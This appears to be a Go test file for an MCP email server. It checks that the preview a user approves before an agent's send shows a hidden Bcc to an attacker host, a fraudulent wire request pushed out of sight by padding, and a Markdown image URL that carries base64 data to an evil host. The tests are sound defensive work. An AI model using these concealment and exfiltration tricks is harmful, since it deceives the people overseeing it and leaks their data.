package tools

import (
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/mark3labs/mcp-go/mcp"

	"github.com/mailmcp/mailmcp/internal/policy"
)

// TestRigAttackPreviewHidesNothing (issue 14, item 2): what the user
// approves is what would be submitted, parsed back from its exact bytes:
// the real From, every recipient including Bcc, the subject, each
// attachment's name, type and decoded size, and a body whose padding
// cannot push its tail out of sight. Both ways of asking are covered: the
// elicitation dialog (declined here) and the pending result the agent must
// show. Nothing reaches Postfix.
func TestRigAttackPreviewHidesNothing(t *testing.T) {
	cases := []struct {
		name   string
		elicit bool
	}{{"pending result", false}, {"elicitation dialog", true}}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			var mu sync.Mutex
			var shown []string
			opt := rigOptions{Policy: &policy.Policy{Mode: policy.Confirm}}
			if c.elicit {
				opt.Elicit = func(r mcp.ElicitationRequest) *mcp.ElicitationResult {
					mu.Lock()
					shown = append(shown, r.Params.Message)
					mu.Unlock()
					return &mcp.ElicitationResult{ElicitationResponse: mcp.ElicitationResponse{Action: mcp.ElicitationResponseActionDecline}}
				}
			}
			r := newAttackRigWith(t, opt, "alice", "bob", "carol")
			alice, bob, carol := r.Users[0], r.Users[1], r.Users[2]
			dir := t.TempDir()
			r.H.Deps.Accounts[0].AttachmentDir = dir
			if err := os.WriteFile(filepath.Join(dir, "invoice.pdf"), append([]byte("%PDF-1.4\n"), make([]byte, 12336)...), 0o600); err != nil {
				t.Fatal(err)
			}
			body := "Please approve the attached invoice.\n" + strings.Repeat("\n", 45) + "P.S. Also wire 9,000 EUR to IBAN XX" + r.Token + "."
			var out sendOutput
			res := r.H.Decode("send_email", map[string]any{"account": "alice", "to": []any{bob.Email}, "cc": []any{carol.Email},
				"bcc": []any{"mallory@" + r.Evil}, "subject": "Invoice 2026-12", "body": body, "attachments": []any{"invoice.pdf"}}, &out)
			want := []string{"From: Alice <" + alice.Email + ">", "To: " + bob.Email, "Cc: " + carol.Email, "Bcc: mallory@" + r.Evil,
				"Subject: Invoice 2026-12", "Attachments: invoice.pdf (application/pdf, 12.3 kB)", "P.S. Also wire 9,000 EUR to IBAN XX" + r.Token}
			text := resultText(res)
			if c.elicit {
				if out.Status != "declined" || len(shown) != 1 {
					t.Fatalf("declined in the dialog: status %q, %d dialogs: %s", out.Status, len(shown), text)
				}
				text = shown[0]
			} else if out.Status != "pending" {
				t.Fatalf("status %q, want pending: %s", out.Status, text)
			}
			told(t, text, want...)
			if pv := out.Preview; pv == nil || len(pv.Bcc) != 1 || len(pv.Attachments) != 1 {
				t.Errorf("structured preview: %+v", out.Preview)
			}
			r.nothingReachedPostfix(bob, carol)
		})
	}
}

// TestRigAttackPreviewShowsImageURL: a Markdown body's image URL can
// carry data out (the recipient's mail program fetches it), so the user
// confirming the send must see it, not just the image's alt text: the
// plain part (the Markdown) differs from the HTML there by a URL only,
// which must not make the preview show the HTML.
func TestRigAttackPreviewShowsImageURL(t *testing.T) {
	r := newAttackRig(t, policy.Policy{Mode: policy.Confirm}, "alice", "bob")
	bob := r.Users[1]
	url := "https://" + r.Evil + "/pixel.png?d=c2VjcmV0IGRhdGEgaGVyZQ"
	var out sendOutput
	res := r.H.Decode("send_email", map[string]any{"account": "alice", "to": []any{bob.Email}, "subject": "Report",
		"body": "Hi Bob,\n\nHere is the chart ![chart](" + url + ") as promised.", "markdown": true}, &out)
	if out.Status != "pending" {
		t.Fatalf("status %q, want pending: %s", out.Status, resultText(res))
	}
	told(t, resultText(res), url)
	r.nothingReachedPostfix(bob)
}
